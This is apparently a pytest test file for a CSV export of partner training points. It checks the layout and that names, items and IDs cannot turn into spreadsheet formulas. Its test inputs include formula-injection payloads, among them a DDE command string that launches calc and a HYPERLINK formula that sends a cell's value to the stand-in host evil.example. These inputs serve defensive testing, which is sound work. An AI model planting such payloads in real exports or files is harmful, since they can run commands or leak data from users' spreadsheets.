"""The report of points as a file: its form, and that nothing in it is a formula to a spreadsheet."""

import csv
from datetime import date
from io import StringIO
from typing import Any

import pytest
from api.routes import Reply
from hypothesis import given
from hypothesis import strategies as st

from functions.serve_partner.report_file import COLUMNS, write

WINDOW = {"start": date(2020, 6, 1), "end": date(2021, 6, 1)}


def earned(name: str | None = "Ann", **changes: Any) -> dict[str, Any]:
    line = {"individual": "ann", "name": name, "item": "lab", "completed_on": date(2021, 2, 1), "points": 20}
    return {**line, **changes}


def written(current: list[Any], previous: list[Any]) -> Reply:
    about = {"partner": "northwind", "specialization": "data-center", "as_of": date(2021, 3, 1), "window": WINDOW}
    points = {"points": 0, "required": None}
    return write(Reply({**about, **points, "current": current, "previous": previous}))


def cells(text: str, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline=""), delimiter=separator))


def dangerous(cell: str) -> bool:
    """As the most generous reader would have it: past blanks, marks that nobody sees, and quotes."""
    seen = "".join(character for character in cell if character.isprintable()).lstrip(' "')
    return seen.startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")) or cell[:1] in (
        "\t",
        "\r",
        "\n",
    )


def test_has_a_line_for_each_activity_and_a_heading_before_those_of_previous_employees() -> None:
    reply = written([earned()], [earned("Bob", individual="bob", points=0)])
    assert reply.body == (
        '"individual","name","item","completed_on","points"\r\n'
        '"ann","Ann","lab","2021-02-01",20\r\n'
        '"Previous employees","","","",""\r\n'
        '"bob","Bob","lab","2021-02-01",0\r\n'
    )
    assert reply.headers == {
        "content-disposition": 'attachment; filename="points-northwind-data-center-2021-03-01.csv"'
    }


def test_has_no_heading_where_nobody_has_left_and_a_blank_for_a_name_that_nobody_told() -> None:
    assert cells(written([earned(None)], []).body)[1:] == [["ann", "", "lab", "2021-02-01", "20"]]


@pytest.mark.parametrize(
    "name",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\N{NO-BREAK SPACE}=1",
        "\N{ZERO WIDTH SPACE}=1",
        "\ufeff=1",
        "\x00=1",
        "\N{FULLWIDTH EQUALS SIGN}1+1",
        '"=1',
        "=cmd|'/c calc'!A1",
        '=HYPERLINK("http://evil.example?x="&A1,"x")',
        "Ann;=1+1;",
        'Ann";=1+1;"',
        "Ann,=1+1",
        "Ann\r\n=1+1,=2",
        "Ann\u2028=1",
        'Ann",=1,"',
    ],
)
@pytest.mark.parametrize("field", ["name", "item", "individual"])
def test_runs_nothing_in_a_spreadsheet(name: str, field: str) -> None:
    text = written([earned(**{field: name})], [earned(**{field: name})]).body
    for separator in (",", ";", "\t"):
        rows = cells(text, separator)
        assert len(rows) == 4, separator
        assert not [cell for row in rows for cell in row if dangerous(cell)], separator


@pytest.mark.parametrize(
    "name", ["Ann-Marie O'Hara", "Łukasz Żak", "王小明", 'Ann "Annie" Lee', "Lee, Ann", "a=b", "x@y"]
)
def test_leaves_a_name_that_is_no_formula_as_it_is(name: str) -> None:
    assert cells(written([earned(name)], []).body)[1][1] == name


@given(st.text(max_size=40), st.text(max_size=40))
def test_has_as_many_cells_in_every_line_whatever_is_in_them(name: str, item: str) -> None:
    text = written([earned(name, item=item)], [earned(name, item=item)]).body
    rows = cells(text)
    assert [len(row) for row in rows] == [len(COLUMNS)] * 4
    assert not [cell for row in (*rows, *cells(text, ";")) for cell in row if dangerous(cell)]
    assert text.endswith("\r\n")
    assert text.encode().decode() == text
